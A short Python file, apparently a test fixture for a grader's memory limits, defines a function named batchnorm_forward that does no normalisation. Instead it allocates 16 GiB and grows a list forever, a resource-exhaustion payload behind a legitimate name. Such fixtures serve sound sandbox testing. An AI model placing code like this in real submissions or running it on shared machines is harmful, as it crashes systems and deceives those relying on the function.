# Asks for 16 GiB, then keeps growing a list.
import numpy as np


def batchnorm_forward(x, gamma, beta, bn_param):
    big = np.ones(2 << 30)  # 16 GiB of float64
    hoard = [big]
    while True:
        hoard.append(bytearray(1 << 28))
